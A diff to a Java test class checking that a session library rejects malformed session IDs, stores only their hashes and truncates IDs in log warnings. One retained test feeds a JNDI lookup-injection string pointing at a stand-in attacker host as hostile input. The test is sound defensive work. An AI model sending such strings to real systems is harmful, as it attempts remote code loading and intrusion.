@@ -2,6 +2,14 @@ package dev.tether.security;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.sql.Connection;
+import java.sql.PreparedStatement;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.IntStream;
+
 import jakarta.inject.Inject;
 
 import org.jboss.weld.junit5.EnableWeld;
@@ -11,13 +19,15 @@ import org.junit.jupiter.api.Test;
 
 import dev.tether.fixtures.Counter;
 import dev.tether.ids.SessionIds;
+import dev.tether.support.CapturedLog;
 import dev.tether.support.TestStorage;
 import dev.tether.support.TetherWeld;
 import dev.tether.support.Units;
 
 /**
  * Whatever a client presents as its session ID, a malformed one gets a fresh session with a new ID and
- * never reaches the database: no SELECT is run for it.
+ * never reaches the database: no SELECT is run for it. A real ID is never stored, only its hash, and a log
+ * line shows no more than its first 6 characters.
  */
 @EnableWeld
 class HostileIdTest {
@@ -94,5 +104,63 @@ class HostileIdTest {
     @Test
     void expressionAndLookupSyntaxNeverReachesTheDatabase() {
         assertThat(selectsForPresenting(padded("${jndi:ldap://attacker.example/x}"))).isZero();
+    }
+
+    @Test
+    void onlyTheHashOfAnIdIsStored() throws SQLException {
+        String id = units.run(null, () -> counter.increment()).sentId();
+
+        assertThat(column("SELECT id_hash FROM tether_session")).containsExactly(SessionIds.hash(id));
+        assertThat(everyValueOf("tether_session")).noneMatch(value -> value.contains(id));
+        assertThat(everyValueOf("tether_bean")).noneMatch(value -> value.contains(id));
+    }
+
+    @Test
+    void aLogLineShowsNoMoreThanTheFirstSixCharactersOfTheId() throws SQLException {
+        String id = units.run(null, () -> counter.increment()).sentId();
+        try (Connection c = storage.uncounted().getConnection();
+             PreparedStatement update = c.prepareStatement("UPDATE tether_bean SET state_bytes = ?")) {
+            update.setBytes(1, new byte[] {(byte) 0xAC, (byte) 0xED, 0, 5, 1, 2, 3});
+            update.executeUpdate();
+        }
+
+        try (CapturedLog log = CapturedLog.of("dev.tether")) {
+            units.run(id, () -> counter.increment());
+
+            assertThat(log.warnings()).as("the unreadable state's warning").isNotEmpty()
+                    .anyMatch(line -> line.contains(id.substring(0, 6)));
+            List<String> sevenCharacters = IntStream.rangeClosed(0, id.length() - 7)
+                    .mapToObj(at -> id.substring(at, at + 7)).toList();
+            assertThat(log.warnings()).allSatisfy(line -> assertThat(sevenCharacters).noneMatch(line::contains));
+        }
+    }
+
+    private List<String> column(String query) throws SQLException {
+        try (Connection c = storage.uncounted().getConnection();
+             ResultSet rows = c.prepareStatement(query).executeQuery()) {
+            List<String> values = new ArrayList<>();
+            while (rows.next()) {
+                values.add(rows.getString(1));
+            }
+            return values;
+        }
+    }
+
+    /** Every column of every row of the table, as text (bytes decoded as ISO-8859-1, so any ASCII ID shows). */
+    private List<String> everyValueOf(String table) throws SQLException {
+        try (Connection c = storage.uncounted().getConnection();
+             ResultSet rows = c.prepareStatement("SELECT * FROM " + table).executeQuery()) {
+            List<String> values = new ArrayList<>();
+            while (rows.next()) {
+                for (int column = 1; column <= rows.getMetaData().getColumnCount(); column++) {
+                    byte[] bytes = rows.getBytes(column);
+                    if (bytes != null) {
+                        values.add(new String(bytes, java.nio.charset.StandardCharsets.ISO_8859_1));
+                        values.add(String.valueOf(rows.getString(column)));
+                    }
+                }
+            }
+            return values;
+        }
     }
 }
